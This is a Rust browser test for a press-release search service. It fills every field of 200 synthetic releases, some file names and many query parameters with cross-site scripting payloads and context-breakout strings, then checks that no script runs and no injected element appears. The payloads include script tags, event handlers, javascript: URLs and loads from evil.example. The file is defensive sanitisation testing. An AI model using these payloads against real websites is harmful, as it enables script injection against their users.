//! Two hundred texts that would run if any page let them, in every field of a release and as queries.
//!
//! Shown as text means: no dialog, no breach of the content policy, no script of theirs that ran, no element of theirs on
//! the page, and the headline reads as the API tells it.

use std::fs;

use serde_json::{Value, json};

use super::serve;
use super::webdriver::{Browser, WIDE};
use crate::support::{ingested, options};
use pressmark::index::Index;

/// What would run: each opens a dialog, or leaves a trace on the window.
const VECTORS: [&str; 40] = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/a.js></script>",
    "<script type=module>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"window.ran=1\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>go</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "<math href=\"javascript:alert(1)\">go</math>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>go</a>",
    "<a href=\"java\tscript:alert(1)\">go</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">go</a>",
    "<form action=javascript:alert(1)><button autofocus>go</button></form>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onpageshow=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>go</marquee>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>@import '//evil.example/a.css';body{display:none}</style>",
    "<template><img src=x onerror=alert(1)></template>",
    "<mark><img src=x onerror=alert(1)></mark>",
    "<ins onmouseover=alert(1) style=position:fixed;inset:0>police</ins>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} #{alert(1)} <%= alert(1) %> @{alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62; \\u003cimg src=x onerror=alert(1)\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4- %3Cscript%3Ealert(1)%3C/script%3E",
];

/// Ways out of the places in a page where a text may stand.
const WAYS_OUT: [(&str, &str); 5] = [
    ("police ", ""),
    ("police \"'`> ", " <\"'`"),
    ("police --> ]]> */ </title></textarea></style></script> ", ""),
    ("police\" autofocus onfocus=alert(1) x=\" ", ""),
    ("police </li></ul></article></main><!-- ", " --!> é\u{301} \u{200d}"),
];

fn texts() -> Vec<String> {
    WAYS_OUT.iter().flat_map(|(before, after)| VECTORS.map(|vector| format!("{before}{vector}{after}"))).collect()
}

/// An archive in which every field of a release is such a text, and the names of some files too.
fn hostile_archive(folder: &std::path::Path) -> Index {
    let archive = folder.join("archive");
    fs::create_dir(&archive).unwrap();
    let mut rows = String::new();
    for (number, text) in texts().iter().enumerate() {
        let row = json!({
            "id": format!("{number} {text}"),
            "title": text,
            "summary": text,
            "text": format!("{text}\n\nThe police said: {text}"),
            "publisher": text,
            "authors": [text],
            "topics": [text],
            "url": if number % 2 == 0 { format!("javascript:alert({number})//{text}") } else { format!("https://hostile.example/{number}?{text}") },
            "date": format!("201{}-0{}-11", number % 10, number % 9 + 1),
        });
        rows.push_str(&format!("{row}\n"));
    }
    fs::write(archive.join("<img src=x onerror=alert(1)>.jsonl"), &rows).unwrap();
    // The same releases once more in other words, so that there are differences.
    let reworded = rows.replace("The police said", "The chief constable of police said");
    fs::write(archive.join("z\"' onload=alert(1) .jsonl"), reworded).unwrap();
    fs::write(archive.join("<script>alert(1)<.bin"), [0xff_u8, 0, 1, 2]).unwrap();
    let index = folder.join("index");
    let (summary, _) = ingested(&options(&[&archive], &index));
    // Of a few, the reader of marked-up texts leaves nothing but the headline.
    assert!(summary.new == 200 && summary.updated > 190, "{summary:?}");
    Index::open(&index).unwrap()
}

/// What of a page would be theirs: elements and attributes that we never write.
const THEIRS: &str = "return [window.ran ?? 0, document.querySelectorAll(\"img, iframe, object, embed, math, base, \
    meta[http-equiv], marquee, video, audio, template, style, svg script, animate, use, [autofocus], [style], \
    script:not([src^='/script.js']):not([type='application/ld+json']), link[rel=stylesheet]:not([href^='/style.css']), \
    form:not([action^='/']), [formaction], [srcdoc]\").length, \
    [...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on') \
    || /^\\s*(javascript|data|vbscript):/i.test(a.value) && /href|src|action/.test(a.name))).length]";

struct Visitor<'a> {
    browser: Browser,
    service: &'a str,
    wrong: Vec<String>,
}

impl Visitor<'_> {
    fn visit(&mut self, page: &str) {
        // A dialog would make this or the next command fail.
        self.browser.go(&format!("{}{page}", self.service));
        let theirs = self.browser.script(THEIRS);
        if theirs != json!([0, 0, 0]) {
            self.wrong.push(format!("{page}: ran, elements, attributes: {theirs}"));
        }
        for complaint in self.browser.complaints() {
            // Pages that say 400 or 404 are told of too.
            if !complaint.contains("the server responded with a status of 4") {
                self.wrong.push(format!("{page}: {complaint}"));
            }
        }
    }

    /// The text of the first thing that a selector finds must be this, white space aside.
    fn reads(&mut self, selector: &str, text: &str) {
        let shown = self.browser.script(&format!("return document.querySelector({selector:?})?.textContent ?? ''"));
        // What turns the direction of text or cannot be seen is left out of a line.
        let plain = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
        let (shown, text) = (plain(shown.as_str().unwrap()), plain(text));
        if shown != text {
            self.wrong.push(format!("{selector}: {shown:?} instead of {text:?}"));
        }
    }
}

fn encoded(text: &str) -> String {
    text.bytes()
        .map(|byte| if byte.is_ascii_alphanumeric() { (byte as char).to_string() } else { format!("%{byte:02X}") })
        .collect()
}

#[test]
#[ignore = "needs chromium and chromium-driver: tests/all runs it"]
fn hostile_texts_are_shown_as_text_in_every_place_and_as_queries() {
    let folder = tempfile::tempdir().unwrap();
    let index = hostile_archive(folder.path());
    let request = pressmark::query::Request { limit: 200, ..pressmark::query::Request::of("police") };
    let found = serde_json::to_value(index.search(&request, None).unwrap()).unwrap();
    let hits: Vec<Value> = found["hits"].as_array().unwrap().clone();
    assert_eq!(hits.len(), 200);
    let service = serve(index);
    let mut visitor = Visitor { browser: Browser::open(WIDE), service: &service, wrong: Vec::new() };

    for page in [
        "/",
        "/search?q=police&limit=100",
        "/search?q=police&limit=100&sort=oldest",
        "/search?limit=100&versions=all",
        "/topics",
        "/trends",
        "/coverage",
        "/help",
        "/about",
    ] {
        visitor.visit(page);
    }
    for hit in &hits {
        let id = hit["id"].as_str().unwrap();
        visitor.visit(&format!("/releases/{id}?q=police"));
        visitor.reads("h1", hit["title"].as_str().unwrap());
        visitor.visit(&format!("/releases/{id}/diff"));
        visitor.reads(".difference h2", hit["title"].as_str().unwrap());
    }
    for text in texts() {
        let text = encoded(&text);
        visitor.visit(&format!("/search?q={text}"));
        visitor.visit(&format!("/search?q=police&topic={text}&publisher=-{text}&from={text}"));
        visitor.visit(&format!("/search?q=police&topic={text}&kind={text}&publisher=-{text}&match=any"));
        visitor.visit(&format!("/trends?q={text}&q=police&publisher={text}"));
        visitor.visit(&format!("/releases/{text}?q={text}"));
    }
    let wrong = visitor.wrong;
    assert!(wrong.is_empty(), "{} faults\n{}", wrong.len(), wrong[..wrong.len().min(20)].join("\n"));
}
